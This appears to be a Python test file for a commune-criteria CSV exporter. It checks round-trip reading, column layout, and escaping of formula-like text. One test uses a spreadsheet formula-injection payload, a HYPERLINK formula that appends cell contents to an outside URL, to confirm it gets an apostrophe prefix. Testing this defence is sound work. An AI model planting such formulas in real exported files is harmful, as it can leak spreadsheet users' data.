"""Writing the long CSV: what :func:`write_long_csv` writes reads back to the same inputs."""

from __future__ import annotations

import io

from hypothesis import given, settings
from hypothesis import strategies as st

from smartcommune.criteria.engine import CriterionInput, input_problems
from smartcommune.criteria.registry import get_criteria_set
from smartcommune.exchange.long_csv import UnitYear, read_long_csv, write_long_csv

S = get_criteria_set()


def _input(criterion):
    count = st.one_of(st.none(), st.integers(min_value=0, max_value=10**6))
    met = st.one_of(st.none(), st.booleans()) if criterion.boolean else st.none()
    if not criterion.ratio:
        return st.builds(CriterionInput, st.none(), st.none(), met, st.none(), st.none())
    return st.builds(CriterionInput, count, count, met, st.none(), st.none()).filter(lambda i: not input_problems(criterion, i))


unit_year = st.builds(
    UnitYear,
    unit_code=st.sampled_from(["28756", "28759", "29734"]),
    year=st.integers(min_value=2021, max_value=2025),
    inputs=st.fixed_dictionaries({c.code: _input(c) for c in S.criteria}),
)


def _normal(unit_years):
    """Inputs as the reader returns them: not-reported criteria dropped, keyed by unit and year."""
    return {
        (u.unit_code, u.year): {code: CriterionInput(*i) for code, i in u.inputs.items() if any(v is not None for v in i)}
        for u in unit_years
    }


@settings(max_examples=60, deadline=None)
@given(st.lists(unit_year, max_size=4, unique_by=lambda u: (u.unit_code, u.year)))
def test_written_file_reads_back_to_the_same_inputs(unit_years):
    out = io.StringIO()
    write_long_csv(unit_years, S, out)
    back = read_long_csv(out.getvalue().encode("utf-8"), S, name="ra.csv") if unit_years else []
    assert _normal(back) == _normal(unit_years)


def test_one_row_per_criterion_with_extra_columns_last():
    out = io.StringIO()
    write_long_csv(
        [UnitYear("28756", 2024, {"1.3": CriterionInput(met=True), "1.1": CriterionInput(12, 12)})],
        S, out, extra={"unit_name": {"28756": "Xã Tân Xuân"}},
    )
    lines = out.getvalue().splitlines()
    assert lines[0] == "unit_code,year,criterion,numerator,denominator,met,unit_name"
    assert len(lines) == 1 + len(S.criteria)
    assert "28756,2024,1.1,12,12,,Xã Tân Xuân" in lines
    assert "28756,2024,1.3,,,true,Xã Tân Xuân" in lines


def test_extra_text_is_never_a_formula_and_the_file_still_reads_back():
    """A unit name a spreadsheet would evaluate gets an apostrophe (issue 16, 2)."""
    out = io.StringIO()
    inputs = {"1.1": CriterionInput(12, 12)}
    write_long_csv([UnitYear("28756", 2024, inputs)], S, out,
                   extra={"unit_name": {"28756": '=HYPERLINK("http://x"&C5,"Bấm")'}, "note": {"28756": "-1+2"}})
    lines = out.getvalue().splitlines()
    assert """28756,2024,1.1,12,12,,"'=HYPERLINK(""http://x""&C5,""Bấm"")",'-1+2""" in lines
    back = read_long_csv(out.getvalue().encode("utf-8"), S, name="ra.csv")
    assert _normal(back) == _normal([UnitYear("28756", 2024, inputs)])
